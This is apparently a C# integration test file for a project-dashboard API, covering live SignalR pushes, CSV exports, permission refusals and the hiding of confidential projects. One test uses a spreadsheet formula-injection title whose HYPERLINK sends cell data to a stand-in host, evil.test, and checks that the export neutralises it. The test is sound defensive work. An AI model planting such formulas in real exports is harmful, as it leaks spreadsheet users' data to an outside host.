using System.Diagnostics;
using System.Globalization;
using System.Text;
using Kaolack.Api.Dashboard;
using Kaolack.Api.Tests.Live;
using Kaolack.Api.Tests.Projects;
using Kaolack.Contracts.Dashboard;
using Kaolack.Contracts.Live;
using Kaolack.Contracts.Plans;
using Kaolack.Grains.Dashboard;
using Microsoft.AspNetCore.SignalR;
using Xunit.Abstractions;

namespace Kaolack.Api.Tests.Dashboards;

/// <summary>
/// Dashboards over the real host: REST and CSV, live pushes to a partner's SignalR connection when a plan changes,
/// coalescing of a burst, and a partner's refusals. Each test uses a value chain of its own, so the dashboard filtered
/// by it shows that test's projects only.
/// </summary>
public sealed class DashboardApiTests(ApiFixture app, ITestOutputHelper output) : ApiTests(app)
{
    private const string Submit = "SubmitPlanOp";

    [Fact]
    public async Task A_task_ticked_through_the_hub_moves_the_summary_and_the_programme_pushed_to_a_partner()
    {
        var team = await Team("tableau-tache");
        await using var editor = await Connect(team.Editor);
        await SubmitOk(editor, team.Slug, "editeur", 1, Op("add", "milestone", "m1", ""","order":"a0","fields":{"title":"Mission à Taourirt","dueDate":"2099-01-01","status":"planned"}"""));
        await SubmitOk(editor, team.Slug, "editeur", 2, Op("add", "task", "t1", ""","order":"a1","fields":{"title":"Réserver les billets","status":"todo","notes":"Appeler Karim au 77 123 45 67"}"""));
        await SubmitOk(editor, team.Slug, "editeur", 3, Op("add", "task", "t2", ""","order":"a2","fields":{"title":"Fiches techniques","status":"doing"}"""));
        await using var partner = await Connect(team.Partner);
        var log = new LiveEventLog(partner);
        var projectTopic = $"dashboard:project:{team.Slug}";
        const string programmeTopic = "dashboard:programme";
        await LiveEventLog.Subscribe(partner, projectTopic, null);
        await LiveEventLog.Subscribe(partner, programmeTopic, null);
        await Eventually.True(async () => (await Summary(team.Partner, team.Slug)).Tasks == new TaskCounts(0, 2), "the summary to count both tasks");

        await SubmitOk(editor, team.Slug, "editeur", 4, Op("set", "task", "t1", ""","field":"status","value":"done" """));

        var projectEvents = await log.WaitFor(projectTopic, events => events.Any(e => Data<ProjectSummary>(e)?.Tasks == new TaskCounts(1, 2)),
            "the partner to receive the summary with the task done");
        var programmeEvents = await log.WaitFor(programmeTopic, events => events.Any(e => Row(e, team.Slug)?.Tasks == new TaskCounts(1, 2)),
            "the partner to receive the programme with the task done");
        var pushed = projectEvents.Select(Data<ProjectSummary>).Last(s => s?.Tasks == new TaskCounts(1, 2))!;
        Assert.Equal(new MilestoneCounts(Done: 0, OnTrack: 1, Late: 0, Total: 1), pushed.Milestones);
        Assert.Equal("Mission à Taourirt", pushed.NextMilestone?.Title);
        var programme = Data<ProgrammeDashboard>(programmeEvents.Last(e => Row(e, team.Slug)?.Tasks == new TaskCounts(1, 2)))!;
        Assert.True(programme.Indicators.Tasks.Done >= 1 && programme.Indicators.Projects >= 1, $"indicators {JsonSerializer.Serialize(programme.Indicators, SiloHost.Json)}");
        var filtered = await Dashboard(team.Partner, $"valueChain={Uri.EscapeDataString(team.ValueChain)}");
        Assert.Equal((1, new TaskCounts(1, 2)), (filtered.Indicators.Projects, filtered.Indicators.Tasks));
        // Nothing confidential crosses: no member e-mail, no task notes.
        var raw = JsonSerializer.Serialize(projectEvents.Select(e => e.Data).Concat(programmeEvents.Select(e => e.Data)), SiloHost.Json);
        Assert.DoesNotContain(team.Editor.Email, raw, StringComparison.Ordinal);
        Assert.DoesNotContain("77 123 45 67", raw, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_partner_reads_the_dashboards_and_changes_nothing_through_the_api_or_the_hub()
    {
        var team = await Team("tableau-partenaire");
        await using var editor = await Connect(team.Editor);
        await SubmitOk(editor, team.Slug, "editeur", 1, Op("add", "task", "t1", ""","order":"a0","fields":{"title":"Tâche","status":"todo"}"""));
        using var http = team.Partner.Client(App.Host);
        var planBefore = await (await http.GetAsync($"/api/projects/{team.Slug}/plan")).Content.ReadAsStringAsync();
        var projectBefore = await (await http.GetAsync($"/api/projects/{team.Slug}")).Content.ReadAsStringAsync();
        await using var partner = await Connect(team.Partner);

        var refusal = await Assert.ThrowsAsync<HubException>(() => SubmitRaw(partner, team.Slug, Submission("partenaire", 1, 1, Op("set", "task", "t1", ""","field":"status","value":"done" """))));
        await (await http.Post($"/api/projects/{team.Slug}/status", new { status = "completed" })).Problem(HttpStatusCode.Forbidden, "forbidden");
        await (await http.Post($"/api/projects/{team.Slug}/contributions", new ContributionInput { From = "Partenaire", Amount = new Money(1, Currency.Xof), ReceivedOn = new DateOnly(2026, 1, 5) }))
            .Problem(HttpStatusCode.Forbidden, "forbidden");
        await (await http.Post("/api/projects", Samples.Project("Projet d'un partenaire"))).Problem(HttpStatusCode.Forbidden, "forbidden");

        Assert.Contains("HubException: forbidden: ", refusal.Message, StringComparison.Ordinal);
        Assert.Equal(planBefore, await (await http.GetAsync($"/api/projects/{team.Slug}/plan")).Content.ReadAsStringAsync());
        Assert.Equal(projectBefore, await (await http.GetAsync($"/api/projects/{team.Slug}")).Content.ReadAsStringAsync());
        await Eventually.True(async () => (await Summary(team.Partner, team.Slug)).Tasks == new TaskCounts(0, 1), "the partner to read the summary");
        Assert.Equal(team.Slug, Assert.Single((await Dashboard(team.Partner, $"valueChain={Uri.EscapeDataString(team.ValueChain)}")).Projects).Slug);
    }

    /// <summary>
    /// 500 summary changes (500 tasks added, every other one done) sent as fast as ten connections can: the subscribed
    /// partner gets at most one push per interval (plus the first and the trailing one), and the last push carries the
    /// final numbers (500 tasks, 250 done), on the project's topic and in the programme's rows.
    /// </summary>
    [Fact]
    public async Task A_burst_of_500_changes_reaches_a_watcher_in_few_pushes_the_last_carrying_the_final_numbers()
    {
        const int Changes = 500;
        const int Connections = 10;
        var team = await Team("tableau-rafale");
        await using var partner = await Connect(team.Partner);
        var log = new LiveEventLog(partner);
        var projectTopic = $"dashboard:project:{team.Slug}";
        const string programmeTopic = "dashboard:programme";
        await LiveEventLog.Subscribe(partner, projectTopic, null);
        await LiveEventLog.Subscribe(partner, programmeTopic, null);
        var editors = new List<HubConnection>();
        try
        {
            for (var i = 0; i < Connections; i++)
            {
                editors.Add(await Connect(team.Editor));
            }
            var clock = Stopwatch.StartNew();
            await Task.WhenAll(editors.Select((connection, c) => Task.Run(async () =>
            {
                for (var seq = 1; seq <= Changes / Connections; seq++)
                {
                    var n = (c * (Changes / Connections)) + seq;
                    await SubmitOk(connection, team.Slug, $"rafale-{c}", seq,
                        Op("add", "task", $"t{n:D3}", $$""","order":"a{{n:D3}}","fields":{"title":"Tâche {{n}}","status":"{{(n % 2 == 0 ? "done" : "todo")}}"}"""),
                        baseVersion: 0);
                }
            })));
            var sending = clock.Elapsed;
            var final = new TaskCounts(Changes / 2, Changes);

            var projectEvents = await log.WaitFor(projectTopic, events => events.Length > 0 && Data<ProjectSummary>(events[^1])?.Tasks == final,
                "the last project push to carry the final numbers");
            var programmeEvents = await log.WaitFor(programmeTopic,
                events => events.LastOrDefault(e => Row(e, team.Slug) is not null) is { } last && Row(last, team.Slug)!.Tasks == final,
                "the last programme push with the project to carry the final numbers");
            var span = clock.Elapsed;

            // Pushes after the subscription's catch-up: at most one per interval over the time it all took, plus the
            // first (immediate) one and the trailing one.
            var interval = new DashboardOptions().PushInterval;
            var bound = (int)Math.Ceiling(span / interval) + 2;
            var projectPushes = projectEvents.Count(e => Data<ProjectSummary>(e)?.Tasks.Total > 0);
            var programmePushes = programmeEvents.Count(e => Row(e, team.Slug) is { Tasks.Total: > 0 });
            output.WriteLine($"{Changes} changes sent in {sending.TotalMilliseconds:0} ms, final numbers seen after {span.TotalMilliseconds:0} ms: " +
                $"{projectPushes} project pushes, {programmePushes} programme pushes (bound {bound})");
            Assert.True(projectPushes <= bound && projectPushes < Changes / 5,
                $"{projectPushes} project pushes for {Changes} changes sent in {sending.TotalMilliseconds:0} ms, seen in {span.TotalMilliseconds:0} ms (bound {bound})");
            Assert.True(programmePushes <= bound && programmePushes < Changes / 5,
                $"{programmePushes} programme pushes for {Changes} changes (bound {bound})");
            Assert.Equal(final, (await Summary(team.Partner, team.Slug)).Tasks);
        }
        finally
        {
            foreach (var connection in editors)
            {
                await connection.DisposeAsync();
            }
        }
    }

    /// <summary>Issue 20, item 3: filtering on a hidden project's value chain gave an outsider its budget, task count and status.</summary>
    [Fact]
    public async Task An_outsider_filtering_on_a_hidden_projects_value_chain_learns_nothing_of_it()
    {
        var chain = $"filière-{Guid.NewGuid():N}"[..20];
        using var owner = await App.SignInNewUserAsync("tableau-cache");
        using var outsider = await App.SignInNewUserAsync("tableau-curieux");
        await (await owner.Http.Post($"/api/projects?slug={Samples.Slug("cache")}", Samples.Project("Projet confidentiel", chain) with { Budget = new Money(987_654m, Currency.Mad) }))
            .Read<JointProject>(HttpStatusCode.Created);
        var query = $"valueChain={Uri.EscapeDataString(chain)}";
        await Eventually.True(async () => (await Dashboard(owner.Account, query)).Indicators.Projects == 1, "the owner's dashboard to count the project");

        var seen = await Dashboard(outsider.Account, query);
        var unfiltered = await Dashboard(outsider.Account, "");
        var indicatorsCsv = await Text(await outsider.Http.GetAsync($"/api/dashboard/indicators.csv?{query}"));

        Assert.Empty(seen.Projects);
        Assert.Equal(0, seen.Indicators.Projects);
        Assert.All(seen.Indicators.ByStatus, s => Assert.Equal(0, s.Count));
        Assert.Equal(new TaskCounts(0, 0), seen.Indicators.Tasks);
        Assert.DoesNotContain(seen.Indicators.Budget, b => b.Expected > 0);
        Assert.DoesNotContain(unfiltered.Indicators.ByValueChain, c => c.Name == chain);
        Assert.Equal(unfiltered.Projects.Length, unfiltered.Indicators.Projects);
        Assert.DoesNotContain("987", indicatorsCsv, StringComparison.Ordinal);
        Assert.DoesNotContain(chain, indicatorsCsv, StringComparison.Ordinal);
    }

    /// <summary>Issue 20, item 4: formulas typed in a project reached a partner's download as live cells.</summary>
    [Fact]
    public async Task A_formula_typed_as_a_project_title_reaches_the_csv_export_as_text()
    {
        var chain = $"filière-{Guid.NewGuid():N}"[..20];
        using var owner = await App.SignInNewUserAsync("tableau-formule");
        const string title = "=HYPERLINK(\"http://evil.test/?d=\"&A1;\"Cliquez\")";
        await (await owner.Http.Post($"/api/projects?slug={Samples.Slug("formule")}", Samples.Project(title, chain))).Read<JointProject>(HttpStatusCode.Created);

        List<string[]> rows = [];
        await Eventually.True(async () =>
        {
            rows = CsvReader.Parse(await Text(await owner.Http.GetAsync($"/api/dashboard/projects.csv?valueChain={Uri.EscapeDataString(chain)}")));
            return rows.Count == 2;
        }, "the project in the export");

        Assert.Equal("'" + title, rows[1][rows[0].ToList().IndexOf("Titre")]);
    }

    [Fact]
    public async Task The_csv_exports_hold_the_same_numbers_as_the_json_table_with_accents_quotes_and_commas_intact()
    {
        var chain = $"filière-{Guid.NewGuid():N}"[..20];
        using var owner = await App.SignInNewUserAsync("tableau-csv");
        string[] titles = ["Projet \"Miel\", Oujda – Kaolack", "Coopératives d'arachide\nà Ndoffane"];
        foreach (var title in titles)
        {
            await (await owner.Http.Post($"/api/projects?slug={Samples.Slug("csv")}", Samples.Project(title, chain) with { Budget = new Money(1_250_000.5m, Currency.Xof) }))
                .Read<JointProject>(HttpStatusCode.Created);
        }
        var query = $"valueChain={Uri.EscapeDataString(chain)}";

        ProgrammeDashboard json = null!;
        List<string[]> projects = [];
        List<string[]> indicators = [];
        HttpResponseMessage? csvResponse = null;
        await Eventually.True(async () =>
        {
            json = await Dashboard(owner.Account, query);
            csvResponse?.Dispose();
            csvResponse = await owner.Http.GetAsync($"/api/dashboard/projects.csv?{query}");
            projects = CsvReader.Parse(await Text(csvResponse));
            using var indicatorResponse = await owner.Http.GetAsync($"/api/dashboard/indicators.csv?{query}");
            indicators = CsvReader.Parse(await Text(indicatorResponse));
            return json.Projects.Length == 2 && projects.Count == 3 && indicators.Contains(["Projets", "", "2", ""], RowComparer.Instance);
        }, "both projects in the JSON table and the CSV");

        Assert.Equal("text/csv", csvResponse!.Content.Headers.ContentType?.MediaType);
        Assert.Equal("utf-8", csvResponse.Content.Headers.ContentType?.CharSet);
        Assert.Equal("projets-kaolack-oriental.csv", csvResponse.Content.Headers.ContentDisposition?.FileNameStar ?? csvResponse.Content.Headers.ContentDisposition?.FileName);
        var bytes = await csvResponse.Content.ReadAsByteArrayAsync();
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        var labels = ExportLabels.French;
        Assert.Equal(labels.ProjectColumns, projects[0]);
        var rows = projects.Skip(1).ToArray();
        Assert.Equal(json.Projects.Select(p => p.Slug), rows.Select(r => r[0]));
        foreach (var (row, p) in rows.Zip(json.Projects))
        {
            var cells = labels.ProjectColumns.Zip(row).ToDictionary(c => c.First, c => c.Second);
            Assert.Equal(p.Title, cells["Titre"]);
            Assert.Equal(labels.Status[p.Status], cells["Statut"]);
            Assert.Equal(labels.RegionPairs[p.RegionPair], cells["Partenaires"]);
            Assert.Equal(string.Join(", ", p.ValueChains), cells["Filières"]);
            Assert.Equal(p.Milestones, new MilestoneCounts(Int(cells["Jalons atteints"]), Int(cells["Jalons dans les temps"]), Int(cells["Jalons en retard"]), Int(cells["Jalons"])));
            Assert.Equal(p.Tasks, new TaskCounts(Int(cells["Tâches faites"]), Int(cells["Tâches"])));
            Assert.Equal((p.KaolackPartners, p.OrientalPartners), (Int(cells["Partenaires de Kaolack"]), Int(cells["Partenaires de l'Oriental"])));
            // The amount as a French spreadsheet reads a number, its currency in a column of its own.
            Assert.Equal(("1250000,5", "XOF"), (cells["Budget"], cells["Monnaie"]));
            Assert.Equal(p.Budget.Single().Expected, decimal.Parse(cells["Budget"], CultureInfo.GetCultureInfo("fr-FR")));
            Assert.Equal(p.LastActivityAt!.Value, DateTimeOffset.Parse(cells["Dernière activité (UTC)"] + "Z", CultureInfo.InvariantCulture), TimeSpan.FromSeconds(1));
        }
        Assert.Equal(titles.Order(StringComparer.Ordinal), rows.Select(r => r[1]).Order(StringComparer.Ordinal));

        Assert.Equal(labels.IndicatorColumns, indicators[0]);
        string[] Indicator(string name, string key) => Assert.Single(indicators, r => r[0] == name && r[1] == key);
        Assert.Equal(json.Indicators.Projects.ToString(CultureInfo.InvariantCulture), Indicator("Projets", "")[2]);
        Assert.All(json.Indicators.ByStatus, s => Assert.Equal(s.Count.ToString(CultureInfo.InvariantCulture), Indicator("Projets par statut", labels.Status[s.Status])[2]));
        Assert.Equal(json.Indicators.Tasks.Total.ToString(CultureInfo.InvariantCulture), Indicator("Tâches", "Total")[2]);
        Assert.Equal(["Budget", "", "2500001", "XOF"], Indicator("Budget", ""));
        Assert.Equal(json.Indicators.Budget.Single(b => b.Currency == Currency.Xof).Expected, decimal.Parse(Indicator("Budget", "")[2], CultureInfo.GetCultureInfo("fr-FR")));
        Assert.Equal(2, Int(Indicator("Projets par filière", chain)[2]));
        csvResponse.Dispose();
    }

    [Theory]
    [InlineData("/api/dashboard")]
    [InlineData("/api/dashboard/projects.csv")]
    [InlineData("/api/dashboard/indicators.csv")]
    public async Task Bad_filters_are_refused_with_every_field_named(string path)
    {
        var response = await MemberHttp.GetAsync($"{path}?region=dakar&status=en-cours&period=2026-13&valueChain=ok");

        var problem = await response.Problem(HttpStatusCode.BadRequest, "validation-failed");

        Assert.Equal(["period", "region", "status"], problem.ErrorFields().Order(StringComparer.Ordinal));
    }

    [Theory]
    [InlineData("region=oriental&status=active&period=2026")]
    [InlineData("period=2026-T4")]
    [InlineData("period=2026-05&valueChain=miel")]
    public async Task Good_filters_are_accepted(string query)
    {
        var response = await MemberHttp.GetAsync($"/api/dashboard?{query}");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
    }

    // ----- helpers -----

    private sealed record DashboardTeam(string Slug, string ValueChain, TestUser Owner, TestUser Editor, TestUser Partner);

    /// <summary>A project (with a value chain of its own) owned by a new account, an editor who joined, and a new partner account.</summary>
    private async Task<DashboardTeam> Team(string prefix)
    {
        using var owner = await App.SignInNewUserAsync($"{prefix}-p");
        using var editor = await App.SignInNewUserAsync($"{prefix}-e");
        using var partner = await App.SignInNewUserAsync($"{prefix}-x", Role.Partner);
        var chain = $"{prefix}-{Guid.NewGuid():N}"[..(prefix.Length + 9)];
        var slug = Samples.Slug(prefix);
        await (await owner.Http.Post($"/api/projects?slug={slug}", Samples.Project($"Projet {prefix}", chain))).Read<JointProject>(HttpStatusCode.Created);
        await ProjectTeam.Join(owner.Http, slug, editor, ProjectRole.Editor);
        return new DashboardTeam(slug, chain, owner.Account, editor.Account, partner.Account);
    }

    private async Task<HubConnection> Connect(TestUser user)
    {
        var connection = user.Hub(App.Host);
        await connection.StartAsync();
        return connection;
    }

    private async Task<ProjectSummary> Summary(TestUser user, string slug)
    {
        using var http = user.Client(App.Host);
        return await (await http.GetAsync($"/api/projects/{slug}/summary")).Read<ProjectSummary>();
    }

    private async Task<ProgrammeDashboard> Dashboard(TestUser user, string query)
    {
        using var http = user.Client(App.Host);
        return await (await http.GetAsync($"/api/dashboard?{query}")).Read<ProgrammeDashboard>();
    }

    private static string Op(string type, string kind, string id, string rest) =>
        $$"""{"type":"{{type}}","kind":"{{kind}}","id":"{{id}}"{{rest}}}""";

    private static string Submission(string clientId, long seq, long baseVersion, string op) =>
        $$"""{"clientId":"{{clientId}}","seq":{{seq}},"baseVersion":{{baseVersion}},"op":{{op}}}""";

    private static Task<PlanAck> SubmitRaw(HubConnection connection, string slug, string submissionJson) =>
        connection.InvokeAsync<PlanAck>(Submit, slug, JsonDocument.Parse(submissionJson).RootElement);

    /// <summary>Submits on top of <paramref name="baseVersion"/> (default: the op's seq less one, for one client alone) and expects it applied.</summary>
    private static async Task SubmitOk(HubConnection connection, string slug, string clientId, long seq, string op, long? baseVersion = null)
    {
        var ack = await SubmitRaw(connection, slug, Submission(clientId, seq, baseVersion ?? seq - 1, op));
        Assert.True(ack.Version is not null, $"op {seq} of {clientId} dropped: {ack.Reason}");
    }

    private static T? Data<T>(LiveEvent liveEvent) where T : class =>
        liveEvent.Data is JsonElement { ValueKind: JsonValueKind.Object } data ? data.Deserialize<T>(SiloHost.Json) : null;

    private static ProjectSummary? Row(LiveEvent liveEvent, string slug) =>
        Data<ProgrammeDashboard>(liveEvent)?.Projects.SingleOrDefault(p => p.Slug == slug);

    private static string JsonName<T>(T value) => JsonSerializer.Serialize(value, SiloHost.Json).Trim('"');

    private static int Int(string value) => int.Parse(value, CultureInfo.InvariantCulture);

    private static async Task<string> Text(HttpResponseMessage response)
    {
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{(int)response.StatusCode} {body}");
        return body.TrimStart('\uFEFF');
    }

    private sealed class RowComparer : IEqualityComparer<string[]>
    {
        public static readonly RowComparer Instance = new();

        public bool Equals(string[]? x, string[]? y) => x is not null && y is not null && x.SequenceEqual(y);

        public int GetHashCode(string[] obj) => obj.Length;
    }
}
